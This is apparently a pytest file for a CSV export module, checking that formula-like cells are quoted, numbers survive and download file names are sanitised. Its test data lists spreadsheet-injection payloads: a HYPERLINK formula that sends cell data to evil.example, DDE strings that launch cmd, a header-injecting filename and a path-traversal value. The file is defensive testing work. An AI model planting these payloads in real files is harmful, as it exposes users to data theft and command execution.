"""The platform's one CSV writer: text that a spreadsheet would run as a formula is quoted,
numbers stay numbers, and downloads get a safe file name."""
import csv
import io
from decimal import Decimal

import pytest
from flask import Flask

from sdk.csv_export import SafeCsvWriter, attachment_filename, csv_lines, csv_response, csv_text, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_starting_like_a_formula_is_quoted(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Berlin Heart Center", "a=b", "x@example.org", "", " =1", "1-2"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("number", [-3, -2.5, Decimal("-0.500"), 0, 7, 1e308])
def test_numbers_stay_numbers_even_when_negative(number):
    assert safe_cell(number) == number
    assert csv_text([], [[number]]).strip() == str(number)


def test_none_and_booleans_and_objects_are_text():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
    assert safe_cell(type("Odd", (), {"__str__": lambda self: "=odd"})()) == "'=odd"


def test_a_negative_number_sent_as_text_is_quoted():
    """Callers pass numbers as numbers; text is never trusted to be one."""
    assert safe_cell("-3") == "'-3"


def test_writer_round_trips_through_a_csv_reader():
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerows([["name", "score"], [ATTACKS[0], -1.5], ['say "hi", then\nleave', 2]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "score"], ["'" + ATTACKS[0], "-1.5"], ['say "hi", then\nleave', "2"]]


def test_every_cell_of_the_output_is_safe():
    text = csv_text(["=header"], [[attack, attack] for attack in ATTACKS])
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_lines_stream_one_row_at_a_time():
    chunks = list(csv_lines(["a", "b"], iter([[1, 2], [3, 4]])))
    assert chunks == ["a,b\r\n", "1,2\r\n", "3,4\r\n"]


@pytest.mark.parametrize("stem, expected", [
    ("HF-3 Europe", "HF-3-Europe.csv"), ('x"; filename="evil.exe', "x-filename-evil-exe.csv"),
    ("Étude 研究 2", "tude-2.csv"), ("研究", "export.csv"), ("../../etc/passwd", "etc-passwd.csv"),
])
def test_attachment_filename_is_ascii_and_quote_free(stem, expected):
    name = attachment_filename(stem, "csv")
    assert name == expected
    name.encode("ascii")


def test_csv_response_is_a_named_csv_download():
    app = Flask(__name__)
    with app.test_request_context():
        response = csv_response(["who"], [["=1+1"], ["ok"]], 'audit "2025"')
        body = response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-2025.csv"'
    assert body == "who\r\n'=1+1\r\nok\r\n"
